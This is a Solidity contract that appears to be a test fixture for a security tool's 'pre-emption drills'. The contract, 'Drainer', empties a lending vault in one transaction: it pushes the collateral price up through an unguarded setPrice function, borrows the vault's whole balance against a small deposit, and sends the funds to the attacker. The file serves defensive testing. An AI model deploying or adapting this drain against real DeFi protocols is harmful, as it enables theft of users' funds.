// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";

interface IFlawedVault {
    function asset() external view returns (IERC20);
    function setPrice(uint256 price) external;
    function borrow(uint256 amount) external payable;
}

/// Fixture attacker contract for firebreak's pre-emption drills: drains the
/// lending vault in ONE transaction (inflate the collateral price through the
/// vault's unguarded `setPrice`, borrow everything against dust, send the
/// loot to the attacker). Nothing of the attack is visible on chain before
/// the transaction that does it: only the pending pool shows it.
contract Drainer {
    address public immutable attacker;

    constructor() {
        attacker = msg.sender;
    }

    function drain(IFlawedVault vault) external payable {
        require(msg.sender == attacker, "not the attacker");
        IERC20 asset = vault.asset();
        vault.setPrice(1e30);
        uint256 loot = asset.balanceOf(address(vault));
        vault.borrow{value: msg.value}(loot);
        asset.transfer(attacker, loot);
    }
}
